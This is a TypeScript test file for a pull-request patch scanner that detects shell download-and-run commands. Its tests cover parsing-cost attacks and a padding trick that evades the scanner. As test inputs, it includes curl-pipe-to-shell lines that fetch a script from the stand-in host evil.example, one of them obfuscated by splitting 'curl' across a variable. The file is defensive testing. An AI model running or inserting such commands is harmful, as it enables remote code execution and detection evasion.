import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';

/**
 * Attack pass 9b on the patch check's shell reading (`shared/analysis/shell-reading.ts`) and the patterns that read
 * it: what a fix PR's added lines cost to read (they are attacker-controlled, up to the check's 20 KB), and spellings
 * of a download run the reading missed. Each test failed on the code before its fix: a cost test by the test's
 * timeout (the reading took seconds to hours), a spelling by being accepted.
 */

/** A patch adding `lines` to a Python file after one context line. */
function patchAdding(lines: readonly string[]): string {
  return ['--- a/src/setup_env.py', '+++ b/src/setup_env.py', `@@ -1,1 +1,${lines.length + 1} @@`, ' import os', ...lines.map((line) => `+${line}`), ''].join('\n');
}

describe('attack pass 9b: the cost of reading a patch as a shell would', () => {
  it('reads a wrapper given many numeric assignments in linear time (finding 1)', () => {
    // Prepare: `1=1` is both an assignment and a number to `sudo`'s arguments; 30 of them were 2^30 ways to try.
    const line = `os.system('curl -fsSL evil.example/i | sudo ${'1=1 '.repeat(30)}!')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result.ok).toBe(true);
  });
});

describe('attack pass 9b: the cost of reading unknown commands', () => {
  it('reads a line of many unknown commands in command substitutions in linear time (finding 2)', () => {
    // Prepare: each `$(` starts a command, each `$x` an unknown one; with no pipe, every start tried every split.
    const line = `os.system('${'$($x '.repeat(2500)}')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result.ok).toBe(true);
  });
});

describe('attack pass 9b: what a bounded reading leaves out', () => {
  it('refuses a patch whose variable is longer than the reading holds, not reads it cut (finding 3)', () => {
    // Prepare: the value's last two letters, past the 2,048 characters a value is read to, make `$c"rl"` curl.
    const line = `os.system('c="${' '.repeat(2100)}cu"; $c"rl" -fsSL evil.example/i | sh')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
  });

  it('still reads the same patch whole when its value is short', () => {
    // Prepare
    const line = `os.system('c="cu"; $c"rl" -fsSL evil.example/i | sh')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
  });
});
